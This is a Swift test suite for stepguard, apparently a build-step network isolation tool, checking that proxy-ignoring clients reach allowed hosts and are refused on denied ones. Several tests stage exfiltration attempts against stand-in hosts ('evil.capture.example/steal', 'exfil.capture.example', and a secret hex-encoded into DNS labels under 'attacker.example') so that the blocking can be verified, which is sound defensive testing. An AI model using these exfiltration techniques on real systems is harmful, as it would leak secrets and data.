import Foundation
import StepGuardServerTestSupport
import StepGuardTestSupport
import Testing

/// Real clients that ignore proxy variables, under isolation with transparent capture: each step
/// runs with every proxy variable removed from its environment. Servers run on the host's loopback
/// and are reached through `network.resolve`.
@Suite struct CaptureClientTests {
    /// The environment of a step whose clients know nothing of the proxy.
    static let withoutProxyVariables = "env -u HTTP_PROXY -u HTTPS_PROXY -u ALL_PROXY -u http_proxy -u https_proxy -u all_proxy -u NO_PROXY -u no_proxy"

    /// `git clone` over SSH from a local sshd, allowed by `host:port` (sshd runs as root: CI does).
    @Test(.enabled(if: getuid() == 0 && FileManager.default.isExecutableFile(atPath: "/usr/sbin/sshd"), "needs root and openssh-server"))
    func gitCloneOverSSHIsAllowedByHostAndPort() throws {
        let directory = try TemporaryDirectory()
        defer { directory.remove() }
        // A bare repository with one commit.
        let work = directory.path("work")
        let setup = try ProgramRun.start("/bin/sh", ["-c", """
            set -e
            git init -q -b main \(work) && cd \(work)
            echo 'built over ssh' > README && git add README
            git -c user.name=t -c user.email=t@example.invalid commit -qm first
            git clone -q --bare \(work) \(directory.path("repo.git"))
            ssh-keygen -q -t ed25519 -N '' -f \(directory.path("host_key"))
            ssh-keygen -q -t ed25519 -N '' -f \(directory.path("client_key"))
            mkdir -p /run/sshd
            """]).wait()
        #expect(setup.status == 0, "\(setup.stderr)")
        chmod(directory.path, 0o755)
        let (probe, port) = try LoopbackSocket.listen()
        close(probe)
        let arguments = ["-D", "-e", "-f", "/dev/null", "-h", directory.path("host_key"),
                         "-o", "ListenAddress=127.0.0.1:\(port)", "-o", "AuthorizedKeysFile=\(directory.path("client_key.pub"))",
                         "-o", "PidFile=none", "-o", "UsePAM=no", "-o", "StrictModes=no", "-o", "PermitRootLogin=prohibit-password"]
        let sshd = try DetachedServer.start("/usr/sbin/sshd \(arguments.joined(separator: " "))", log: directory.path("sshd.log"))
        defer { sshd.stop() }
        try waitUntilListening(port: port)

        let policy = try directory.write("policy.yaml", CaptureTests.capturePolicy(allow: ["192.0.2.22:22"], resolve: ["192.0.2.22:22": port]))
        let ssh = "ssh -F /dev/null -i \(directory.path("client_key")) -o IdentitiesOnly=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR"
        let clone = directory.path("clone")
        let step = "\(Self.withoutProxyVariables) GIT_SSH_COMMAND='\(ssh)' git clone -q ssh://root@192.0.2.22:22\(directory.path("repo.git")) \(clone) && cat \(clone)/README"
        var environment = TestEnvironment.base
        environment["HOME"] = directory.path
        let run = try StepGuardBinary.run(["run", "--policy", policy, "--", "sh", "-c", step], environment: environment)
        #expect(run.status == 0, "\(run.stderr)")
        #expect(run.stdout == "built over ssh\n")

        // The same clone from an address the policy does not name: refused at once, a violation.
        let denied = step.replacingOccurrences(of: "192.0.2.22:22", with: "192.0.2.23:22").replacingOccurrences(of: clone, with: clone + "2")
        let refused = try StepGuardBinary.run(["run", "--policy", policy, "--", "sh", "-c", denied], environment: environment)
        #expect(refused.status == 77, "\(refused.stderr)")
        #expect(refused.stderr.contains("192.0.2.23:22"))
        #expect(!FileManager.default.fileExists(atPath: clone + "2/README"))
    }

    /// `psql` (libpq, a database protocol stepguard does not parse) reaches a PostgreSQL server by
    /// name through stepguard's resolver and capture, allowed by `host:port`; the same name on a port
    /// the policy does not name is refused at once and fails the run.
    @Test(.enabled(if: Self.postgresDirectory != nil && FileManager.default.isExecutableFile(atPath: "/usr/bin/psql"), "needs postgresql and psql"))
    func psqlReachesAnAllowedDatabaseByName() throws {
        let directory = try TemporaryDirectory()
        defer { directory.remove() }
        let server = directory.path("db")
        let bin = try #require(Self.postgresDirectory)
        // PostgreSQL refuses to run as root: as root the server runs as nobody.
        let asServerUser = getuid() == 0 ? "setpriv --reuid=nobody --regid=nogroup --clear-groups " : ""
        chmod(directory.path, 0o755)
        let (probe, port) = try LoopbackSocket.listen()
        close(probe)
        let setup = try ProgramRun.start("/bin/sh", ["-c", """
            set -e
            mkdir -m 700 \(server) && \(getuid() == 0 ? "chown nobody:nogroup \(server)" : "true")
            \(asServerUser)\(bin)/initdb -D \(server) -U builder --auth=trust --no-sync >/dev/null
            """]).wait()
        try #require(setup.status == 0, "\(setup.stderr)")
        // TCP on loopback only, no Unix socket; SIGQUIT is PostgreSQL's immediate shutdown.
        let postgres = try DetachedServer.start("\(asServerUser)\(bin)/postgres -D \(server) -h 127.0.0.1 -p \(port) -k ''",
                                                log: directory.path("postgres.log"))
        defer { postgres.stop(SIGQUIT) }
        try waitUntilListening(port: port)

        let policy = try directory.write("policy.yaml", CaptureTests.capturePolicy(allow: ["db.capture.example:5432"],
                                                                                     resolve: ["db.capture.example:5432": port]))
        func query(port: Int) -> String {
            "\(Self.withoutProxyVariables) psql 'host=db.capture.example port=\(port) user=builder dbname=postgres sslmode=disable connect_timeout=5' -XtAc \"select 'reached as ' || current_user\""
        }
        let run = try StepGuardBinary.run(["run", "--policy", policy, "--", "sh", "-c", query(port: 5432)])
        #expect(run.status == 0, "\(run.stderr)")
        #expect(run.stdout == "reached as builder\n", "\(run.stdout) \(run.stderr)")

        let refused = try StepGuardBinary.run(["run", "--policy", policy, "--", "sh", "-c", query(port: 5433)])
        #expect(refused.status == 77, "\(refused.stderr)")
        #expect(refused.stderr.contains("db.capture.example:5433"), "\(refused.stderr)")
        #expect(!refused.stdout.contains("reached"))
    }

    /// Where Debian's PostgreSQL server programs are (`/usr/lib/postgresql/VERSION/bin`), if installed.
    static let postgresDirectory: String? = {
        let root = "/usr/lib/postgresql"
        let versions = (try? FileManager.default.contentsOfDirectory(atPath: root)) ?? []
        return versions.sorted().reversed().map { "\(root)/\($0)/bin" }
            .first { FileManager.default.isExecutableFile(atPath: "\($0)/postgres") }
    }()

    /// Node's built-in `fetch` ignores proxy variables: by name, through stepguard's resolver and capture.
    @Test(.enabled(if: FileManager.default.isExecutableFile(atPath: "/usr/bin/node"), "needs node"))
    func nodeFetchReachesAnAllowedHTTPSHostAndFailsOnADeniedOne() throws {
        let directory = try TemporaryDirectory()
        defer { directory.remove() }
        let authority = try TestCertificateAuthority(directory: directory, name: "upstream CA")
        let server = try LocalHTTPServer.start(tls: authority, tlsNames: ["builds.capture.example"]) { request in
            ServerResponse(body: "artifact \(request.uri)")
        }
        defer { server.shutdown() }
        let policy = try directory.write("policy.yaml", CaptureTests.capturePolicy(allow: ["builds.capture.example:\(server.port)"],
                                                                    resolve: ["builds.capture.example:\(server.port)": server.port]))
        let script = try directory.write("fetch.mjs", """
            for (const url of process.argv.slice(2)) {
              try {
                const response = await fetch(url);
                console.log(url, response.status, await response.text());
              } catch (error) {
                console.log(url, "failed", error.cause?.code ?? error.message);
              }
            }
            """)
        let allowed = "https://builds.capture.example:\(server.port)/app.tgz"
        let denied = "https://exfil.capture.example:\(server.port)/steal"
        let step = "\(Self.withoutProxyVariables) NODE_EXTRA_CA_CERTS=\(authority.certificateFile) node \(script) \(allowed) \(denied)"
        let run = try StepGuardBinary.run(["run", "--policy", policy, "--", "sh", "-c", step])
        let lines = run.stdout.split(separator: "\n").map(String.init)
        #expect(lines.first == "\(allowed) 200 artifact /app.tgz", "\(run.stdout) \(run.stderr)")
        #expect(lines.last == "\(denied) failed ENOTFOUND", "the denied name does not resolve: \(run.stdout)")
        #expect(server.requests.map(\.uri) == ["/app.tgz"])
        #expect(run.status == 77, "\(run.stderr)")
        #expect(run.stderr.contains("exfil.capture.example"))
    }

    /// A client that resolved a name elsewhere (here curl's `--resolve`) and connects to a bare
    /// address the policy does not name: TLS is decided by its SNI, plain HTTP by its Host, and the
    /// connection goes where the allowed name resolves — not to the address the client chose.
    @Test func aConnectionToABareAddressIsDecidedByItsSNIOrHost() throws {
        let directory = try TemporaryDirectory()
        defer { directory.remove() }
        let authority = try TestCertificateAuthority(directory: directory, name: "upstream CA")
        let tls = try LocalHTTPServer.start(tls: authority, tlsNames: ["builds.capture.example"]) { request in ServerResponse(body: "tls \(request.uri)") }
        defer { tls.shutdown() }
        let plain = try LocalHTTPServer.start { request in ServerResponse(body: "plain \(request.uri)") }
        defer { plain.shutdown() }
        let policy = try directory.write("policy.yaml", CaptureTests.capturePolicy(
            allow: ["builds.capture.example:443", "builds.capture.example:80"],
            resolve: ["builds.capture.example:443": tls.port, "builds.capture.example:80": plain.port]))
        let curl = "\(Self.withoutProxyVariables) curl -sS --cacert \(authority.certificateFile)"
        let step = """
            \(curl) --resolve builds.capture.example:443:192.0.2.99 https://builds.capture.example/by-sni; echo
            \(curl) --resolve builds.capture.example:80:192.0.2.99 http://builds.capture.example/by-host; echo
            \(curl) -k --resolve evil.capture.example:443:192.0.2.99 https://evil.capture.example/steal; echo " exit $?"
            """
        let run = try StepGuardBinary.run(["run", "--policy", policy, "--", "sh", "-c", step])
        let lines = run.stdout.split(separator: "\n").map(String.init)
        #expect(lines.first == "tls /by-sni", "\(run.stdout) \(run.stderr)")
        #expect(lines.dropFirst().first == "plain /by-host", "\(run.stdout)")
        #expect(lines.last == " exit 35", "a name the policy denies is reset during the TLS handshake: \(run.stdout)")
        #expect(tls.requests.map(\.uri) == ["/by-sni"] && plain.requests.map(\.uri) == ["/by-host"])
        #expect(run.status == 77)
        #expect(run.stderr.contains("evil.capture.example:443"), "the denial names the SNI: \(run.stderr)")
    }

    /// Java 17's `java.net.http.HttpClient` without proxy settings (a single-file program).
    @Test(.enabled(if: FileManager.default.isExecutableFile(atPath: "/usr/bin/java"), "needs java"))
    func javaHttpClientReachesAnAllowedHost() throws {
        let directory = try TemporaryDirectory()
        defer { directory.remove() }
        let server = try LocalHTTPServer.start { request in ServerResponse(body: "maven metadata \(request.uri)") }
        defer { server.shutdown() }
        let policy = try directory.write("policy.yaml", CaptureTests.capturePolicy(allow: ["repo.capture.example:\(server.port)"],
                                                                    resolve: ["repo.capture.example:\(server.port)": server.port]))
        let program = try directory.write("Fetch.java", """
            import java.net.URI;
            import java.net.http.HttpClient;
            import java.net.http.HttpRequest;
            import java.net.http.HttpResponse;

            public class Fetch {
                public static void main(String[] args) throws Exception {
                    HttpClient client = HttpClient.newHttpClient();
                    HttpRequest request = HttpRequest.newBuilder(URI.create(args[0])).build();
                    HttpResponse<String> response = client.send(request, HttpResponse.BodyHandlers.ofString());
                    System.out.println(response.statusCode() + " " + response.body());
                }
            }
            """)
        let step = "\(Self.withoutProxyVariables) java \(program) http://repo.capture.example:\(server.port)/maven-metadata.xml"
        let run = try StepGuardBinary.run(["run", "--policy", policy, "--", "sh", "-c", step])
        #expect(run.status == 0, "\(run.stderr)")
        #expect(run.stdout == "200 maven metadata /maven-metadata.xml\n")
    }

    /// The step's resolver asks `network.dns` for an allowed name; a denied name — here one that
    /// would carry a secret out in its labels — gets no answer, and no query for it leaves.
    @Test func getentResolvesAllowedNamesAndNoQueryLeavesForDeniedOnes() throws {
        let directory = try TemporaryDirectory()
        defer { directory.remove() }
        let upstream = try PythonDNSStandIn(directory: directory, answering: ["mirror.capture.example": "192.0.2.44"])
        defer { upstream.stop() }
        let policy = try directory.write("policy.yaml", CaptureTests.capturePolicy(allow: ["mirror.capture.example:443"], dns: upstream.port))
        let secret = RandomSecret.alnum(24)
        let exfiltration = "\(Array(secret.utf8).map { String(format: "%02x", $0) }.joined()).attacker.example"
        let step = "getent hosts mirror.capture.example; echo \"allowed exit $?\"; getent hosts \(exfiltration); echo \"denied exit $?\""
        let audit = directory.path("audit.jsonl")
        let run = try StepGuardBinary.run(["run", "--policy", policy, "--audit-log", audit, "--", "sh", "-c", step])
        let lines = run.stdout.split(separator: "\n").map(String.init)
        #expect(lines.first?.hasPrefix("198.18.") == true && lines.first?.hasSuffix("mirror.capture.example") == true,
                "answered from stepguard's pool: \(run.stdout) \(run.stderr)")
        #expect(lines.contains("allowed exit 0"))
        #expect(lines.last == "denied exit 2", "no answer for the denied name: \(run.stdout)")
        let queries = try upstream.queries()
        #expect(queries.contains("mirror.capture.example"), "\(queries)")
        #expect(!queries.contains { $0.contains("attacker") }, "no query for the denied name left stepguard: \(queries)")
        #expect(run.status == 77)
        let log = try String(contentsOfFile: audit, encoding: .utf8)
        #expect(!log.contains(secret) && !run.stderr.contains(secret), "the name's secret-bearing label is not written in full")
    }

    /// A service named in `services:` reached without proxy variables is still TLS-inspected: each
    /// request is decided, and one the policy does not allow (another path, with a Vault token) is
    /// refused inside the TLS session before it reaches the service.
    @Test func anInterceptedServiceReachedWithoutProxyVariablesIsDecidedPerRequest() throws {
        let directory = try TemporaryDirectory()
        defer { directory.remove() }
        let vault = try ServiceStandIn.start("vault.capture.example", port: 8200, directory: directory) { request in
            ServerResponse(body: "vault \(request.uri)")
        }
        defer { vault.shutdown() }
        let policy = try directory.write("policy.yaml", """
            version: 1
            isolation: required
            on_violation: fail
            tripwires: off
            services:
              - service: hashicorp-vault
                hosts: [vault.capture.example]
                allow: { methods: [GET], paths: ["/v1/sys/*"], credential: none }
            \(vault.network)
            """)
        let token = "hv" + "s." + RandomSecret.alnum(90)
        let base = "https://vault.capture.example:8200"
        let step = """
            \(Self.withoutProxyVariables) sh -c 'curl -sS -w " %{http_code}\\n" \(base)/v1/sys/health; curl -sS -o /dev/null -w "%{http_code}\\n" -H "X-Vault-Token: \(token)" \(base)/v1/secret/data/release'
            """
        let run = try StepGuardBinary.run(["run", "--policy", policy, "--", "sh", "-c", step])
        let lines = run.stdout.split(separator: "\n").map(String.init)
        #expect(lines.first == "vault /v1/sys/health 200", "\(run.stdout) \(run.stderr)")
        #expect(lines.last == "403", "the request with a token is denied in flight: \(run.stdout)")
        #expect(vault.requests.map(\.uri) == ["/v1/sys/health"], "the denied request never reached the service")
        #expect(run.status == 77)
        #expect(!run.stdout.contains(token) && !run.stderr.contains(token))
    }

    /// An upstream DNS server on 127.0.0.1 (UDP), in python3, that answers A queries from a table
    /// and writes every query name it receives to a file (written without stepguard's codec).
    struct PythonDNSStandIn {
        let port: Int
        let log: String
        let process: ProgramRun

        init(directory: TemporaryDirectory, answering records: [String: String]) throws {
            log = directory.path("dns-queries.txt")
            let ready = directory.path("dns-port.txt")
            let table = records.map { "\"\($0.key)\": \"\($0.value)\"" }.joined(separator: ", ")
            let script = try directory.write("dns.py", """
                import socket, struct
                records = {\(table)}
                sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
                sock.bind(("127.0.0.1", 0))
                open("\(ready).tmp", "w").write(str(sock.getsockname()[1]))
                import os; os.rename("\(ready).tmp", "\(ready)")
                while True:
                    query, client = sock.recvfrom(4096)
                    at, labels = 12, []
                    while query[at]:
                        labels.append(query[at + 1:at + 1 + query[at]].decode("ascii", "replace"))
                        at += 1 + query[at]
                    name = ".".join(labels).lower()
                    qtype = struct.unpack("!H", query[at + 1:at + 3])[0]
                    with open("\(log)", "a") as f:
                        f.write(name + "\\n")
                    question = query[12:at + 5]
                    address = records.get(name)
                    if address and qtype == 1:
                        answer = b"\\xc0\\x0c" + struct.pack("!HHIH", 1, 1, 60, 4) + socket.inet_aton(address)
                        reply = query[:2] + struct.pack("!HHHHH", 0x8180, 1, 1, 0, 0) + question + answer
                    else:
                        reply = query[:2] + struct.pack("!HHHHH", 0x8180 if address else 0x8183, 1, 0, 0, 0) + question
                    sock.sendto(reply, client)
                """)
            process = try ProgramRun.start("/usr/bin/python3", [script])
            var found: Int?
            for _ in 0..<500 where found == nil {
                found = (try? String(contentsOfFile: ready, encoding: .utf8)).flatMap { Int($0) }
                if found == nil { usleep(10_000) }
            }
            guard let found else { throw TestSupportError.timedOut("the DNS stand-in to start", 5) }
            port = found
        }

        /// The names queried so far, in order.
        func queries() throws -> [String] {
            guard FileManager.default.fileExists(atPath: log) else { return [] }
            return try String(contentsOfFile: log, encoding: .utf8).split(separator: "\n").map(String.init)
        }

        func stop() { process.send(SIGKILL); _ = try? process.wait(timeout: 5) }
    }

    /// Waits (bounded) until something accepts connections on 127.0.0.1:`port`.
    func waitUntilListening(port: Int) throws {
        for _ in 0..<200 {
            if let fd = LoopbackSocket.connect(port: port) {
                close(fd)
                return
            }
            usleep(10_000)
        }
        throw TestSupportError.timedOut("listening on \(port)", 2)
    }
}
